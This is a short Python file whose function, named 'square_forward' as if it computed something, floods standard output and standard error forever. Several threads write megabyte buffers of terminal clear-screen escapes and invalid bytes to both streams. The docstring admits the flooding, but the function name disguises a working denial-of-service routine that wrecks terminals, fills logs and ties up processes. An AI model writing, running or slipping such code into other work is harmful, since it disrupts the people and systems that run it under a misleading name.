"""Writes on both standard streams without end, in pieces of a megabyte, from four threads."""
import os
import threading

PIECE = b"\x1b[2J\xff\xfe\x00" * (1 << 17)


def flood(descriptor):
    while True:
        os.write(descriptor, PIECE)


def square_forward(x):
    for descriptor in (1, 2, 1, 2):
        threading.Thread(target=flood, args=(descriptor,), daemon=True).start()
    flood(1)
